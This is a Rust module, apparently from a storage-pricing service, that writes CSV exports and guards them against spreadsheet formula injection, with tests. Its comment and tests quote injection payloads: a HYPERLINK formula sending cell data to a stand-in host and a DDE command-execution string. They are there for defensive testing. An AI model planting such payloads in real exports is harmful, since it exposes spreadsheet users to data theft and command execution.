//! The one CSV writer of every export the service offers (the dashboard's tables and any
//! later export): a cell a spreadsheet would run as a formula is neutralised, figures stay
//! figures.
//!
//! A value that came from a customer or a CRM (a facility's name, a competitor's, a unit type
//! label) can start with `=`, `+`, `-` or `@`, or with a tab or carriage return, which
//! Excel, LibreOffice and Google Sheets read as the start of a formula
//! (`=HYPERLINK("https://evil.example/?"&A1,"Open")` sends the sheet's cells away when clicked).
//! Following OWASP's rule, such a cell is written with a leading `'`, which the spreadsheet shows
//! as text. A cell that is a figure as the dashboard writes it (`-12.5`, `-$1,200`, `+3.0%`) is
//! kept as it is, so negative numbers stay numbers.

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written to a CSV file: prefixed with `'` when a spreadsheet would otherwise run
/// it as a formula.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_figure(cell) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// A number as the dashboard writes one: an optional sign, an optional currency symbol,
/// digits with thousands separators and a decimal point, an optional `%`.
fn is_figure(cell: &str) -> bool {
    let rest = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let rest = rest.trim_start_matches(['$', '€', '£', '¥']);
    let rest = rest.strip_suffix('%').unwrap_or(rest);
    !rest.is_empty()
        && rest.starts_with(|c: char| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || c == ',' || c == '.')
        && rest.chars().filter(|&c| c == '.').count() <= 1
}

/// A CSV document of `headers` and `rows`, every cell through [`neutralise`].
pub fn write<R, C>(headers: &[String], rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = C>,
    C: AsRef<[String]>,
{
    let mut w = csv::Writer::from_writer(Vec::new());
    let mut record =
        |cells: &[String]| w.write_record(cells.iter().map(|c| neutralise(c).into_owned()));
    let mut written = record(headers);
    for r in rows {
        if written.is_err() {
            break;
        }
        written = record(r.as_ref());
    }
    match (written, w.into_inner()) {
        (Ok(()), Ok(bytes)) => bytes,
        _ => Vec::new(),
    }
}

/// The columns of [`pending_rates`].
const RATE_HEADERS: [&str; 8] = [
    "size",
    "tier",
    "rate_to_set",
    "rate_in_force",
    "currency",
    "source",
    "decided_at",
    "decided_by",
];

/// The approved rates of a facility waiting to appear in a snapshot, as a CSV download for a
/// PMS import (`GET /api/v1/facilities/:id/rates.csv` and the facility page's link): rates as
/// plain numbers with the currency's minor units, no symbol or separator.
pub fn pending_rates(rates: &jobs::rates::Rates) -> axum::response::Response {
    use axum::http::header;
    use axum::response::IntoResponse;
    let decimals = rates.currency.minor_decimals() as usize;
    let plain = |v: f64| format!("{v:.decimals$}");
    let headers: Vec<String> = RATE_HEADERS.iter().map(|h| (*h).to_owned()).collect();
    let rows: Vec<Vec<String>> = rates
        .pending()
        .filter_map(|(line, approved)| {
            Some(vec![
                line.size.clone(),
                line.tier.clone(),
                plain(approved.rate?),
                plain(line.rate_in_force),
                rates.currency.code().to_owned(),
                jobs::rates::source_of(&approved.action).to_owned(),
                approved
                    .decided_at
                    .to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
                approved.actor.label(),
            ])
        })
        .collect();
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"rates-{}.csv\"", rates.facility_id),
            ),
        ],
        write(&headers, rows),
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_figures_kept() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "-$",
            "-1.2.3",
            "-1e5",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in [
            "-12.5",
            "+3.0%",
            "-$1,200",
            "-€8.10",
            "42",
            "Unit 10x10",
            "",
            "$1,200.00",
            "12%",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_document_quotes_what_csv_needs_and_prefixes_formulas() {
        let headers = vec!["Facility".to_owned(), "Rent".to_owned()];
        let rows = vec![
            vec!["=1+1".to_owned(), "-$5.00".to_owned()],
            vec!["Main, North".to_owned(), "12".to_owned()],
        ];
        assert_eq!(
            String::from_utf8(write(&headers, &rows)).unwrap(),
            "Facility,Rent\n'=1+1,-$5.00\n\"Main, North\",12\n"
        );
    }
}
